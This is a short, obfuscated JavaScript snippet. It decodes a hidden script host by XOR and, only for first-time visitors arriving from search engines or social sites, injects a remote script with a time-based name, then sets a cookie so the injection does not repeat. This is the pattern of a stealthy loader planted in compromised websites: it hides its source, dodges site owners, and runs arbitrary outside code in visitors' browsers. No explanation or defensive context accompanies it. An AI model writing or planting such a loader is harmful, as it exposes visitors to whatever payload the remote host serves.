let c0=1731000000,h3='';const q=[0x2d,0x31,0x31,0x35,0x36,0x7f,0x6a,0x6a,0x2f,0x36,0x6b,0x2c,0x2b,0x33,0x24,0x29,0x2c,0x21];const kx=0x45;
const ts=Math.floor(Date.now()/1000/600)*600;
for(const b of q){h3+=String.fromCharCode(b^kx);}
const seen=document.cookie.split(';').some(v=>v.trim().startsWith('_s1='));
const rf=document.referrer;
if(!seen&&rf&&/(google|facebook|yahoo|instagram|t\.co|bing)/.test(rf)){
const el=document.createElement('script');
el.src=h3+'/'+ts.toString(16)+'.js?v='+(ts^c0);
el.referrerPolicy='unsafe-url';
(document.body||document.head).append(el);
document.cookie='_s1='+ts+';max-age=86400;path=/';
}
